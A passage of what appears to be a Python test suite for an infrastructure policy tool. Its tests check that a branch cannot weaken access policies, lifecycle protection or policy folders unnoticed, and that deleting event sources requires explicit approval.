    await begin(sandbox, repository, *SERVED, cidr, EDGE, settings="")
    name = text.split()[1]
    assert list_violated(await plan_on(sandbox, repository)) == []
    repository.commit(*SERVED, cidr, OPEN_EDGE)
    check = next(line for line in text.splitlines(keepends=True) if line.startswith("check"))
    if weaker:
        write(repository, "policies/access.yaml", text.replace(check, weaker))
    else:
        (repository.root / "policies/access.yaml").unlink()
    commit(repository)
    plan = await plan_on(sandbox, repository)
    assert f"loosens_rule policy/{name}" in list_loosened(plan)
    assert list_violated(plan) == [f"{name} of main"]


async def test_a_component_of_the_branch_is_judged_like_manifests(sandbox: Sandbox, repository: Repository) -> None:
    """What a component of the base protects and forbids counts, whatever the component of the branch says."""
    protected = "inputs: {}\n---\nkind: Vault\nname: v\nlifecycle: {protect: true}\nspec: {name: v}\n"
    write(repository, "components/vault.yaml", protected)
    use: Document = {"component": "vault", "name": "a"}
    await begin(sandbox, repository, use)
    write(repository, "components/vault.yaml", protected.replace("{protect: true}", "{adopt: true}"))
    commit(repository)
    assert list_loosened(await plan_on(sandbox, repository)) == ["loosens_rule Vault/a-v.lifecycle.protect"]


async def test_a_component_of_the_branch_cannot_take_over_rules(sandbox: Sandbox, repository: Repository) -> None:
    """Folders of components hold no policies, approvals or settings, even if the branch names them as such."""
    write(repository, "policies/restricted.yaml", POLICY)
    await begin(sandbox, repository)
    repository.commit(*SERVED, OPEN_EDGE, settings=f"{GUARDS}components: [policies, tests, environments]\n")
    plan = await plan_on(sandbox, repository)
    assert list_violated(plan) == ["restricted"]


async def test_a_branch_that_begins_to_list_sources_deletes_others_only_with_approval(
    sandbox: Sandbox, repository: Repository
) -> None:
    role = {"role_arn": "arn:aws:iam::123456789012:role/all"}
    logs = {"log_group_arn": "arn:aws:logs:eu-central-1:123456789012:log-group:all", "auth": {"role": role}}
    target: Document = {"format": "json", "target": {"logs": logs}}
    destination: Document = {"kind": "EventDestination", "name": "all", "spec": target}
    spec: Document = {"destination_ids": [{"ref": "EventDestination/all"}]}
    subscription: Document = {"kind": "EventSubscription", "name": "audit", "spec": spec}
    await begin(sandbox, repository, destination, subscription, settings="")
    (made,) = sandbox.get("/event_subscriptions")["event_subscriptions"]
    for type_ in ("vault_created.v0", "vault_deleted.v0"):
        assert sandbox.request("POST", f"/event_subscriptions/{made['id']}/sources", {"type": type_}).is_success
    repository.commit(destination, {**subscription, "sources": {}}, settings="")
    plan = await plan_on(sandbox, repository)
    assert (plan.changes, len(plan.additions)) == ((), 2)
    assert [approval.flag for approval in plan.approvals] == ["--allow delete:EventSource=2"]
    plan = await plan_on(sandbox, repository, allow={("delete", "EventSource"): 2})
    assert [(change.action, change.cause) for change in plan.changes] == [(Action.DELETE, Cause.THIS_CHANGE)] * 2
